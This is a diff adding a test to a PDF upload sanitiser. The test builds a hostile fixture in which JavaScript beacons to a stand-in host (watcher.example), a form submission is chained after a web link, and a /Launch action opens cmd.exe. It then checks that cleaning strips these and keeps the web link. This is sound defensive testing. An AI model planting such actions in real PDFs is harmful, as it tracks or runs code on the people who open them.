@@ -570,6 +570,60 @@ def test_links_between_pages_of_a_cleaned_pdf_still_lead_to_their_page():
     assert targets == [2, 0]
 
 
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject(
+        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
+    )
+    action.update({NameObject(f"/{key}"): value for key, value in entries.items()})
+    return action
+
+
+def test_a_cleaned_pdf_keeps_its_web_links_but_runs_nothing_when_staff_open_it():
+    """A file sent in by anyone may be made to act when staff open it: run script, open another file, send
+    a form to a server (which would tell the sender where staff are). Web links and links between pages are
+    what reporters send as evidence: they stay, without anything chained after them."""
+    script = TextStringObject("app.launchURL('https://watcher.example/seen');")
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=200, height=200)
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS=script)})
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 30)]),
+            NameObject("/A"): _action(
+                "/URI",
+                URI=TextStringObject("https://example.com/their-page"),
+                Next=_action("/SubmitForm", F=TextStringObject("https://watcher.example/form")),
+            ),
+            NameObject("/PA"): _action("/JavaScript", JS=script),  # reached by a key other than /A
+        }
+    )
+    launcher = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 40, 90, 60)]),
+            NameObject("/A"): _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")),
+            NameObject("/AA"): DictionaryObject({NameObject("/E"): _action("/JavaScript", JS=script)}),
+        }
+    )
+    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link), writer._add_object(launcher)])
+    out = io.BytesIO()
+    writer.write(out)
+    assert b"watcher" in out.getvalue() and b"cmd" in out.getvalue()
+
+    clean = clean_upload(name="links.pdf", data=out.getvalue()).data
+    for marker in (b"watcher", b"cmd", b"/JavaScript", b"/Launch", b"/SubmitForm", b"/AA"):
+        assert marker not in clean
+    stored = PdfReader(io.BytesIO(clean)).pages[0]
+    assert "/AA" not in stored
+    links = [annotation.get_object() for annotation in stored["/Annots"]]
+    assert links[0]["/A"]["/URI"] == "https://example.com/their-page"
+    assert "/Next" not in links[0]["/A"]
+    assert "/A" not in links[1] and links[1]["/Rect"] == [10, 40, 90, 60]
+
+
 def _jp2_with_metadata() -> bytes:
     image = Image.new("RGB", (32, 24), (200, 30, 30))
     out = io.BytesIO()
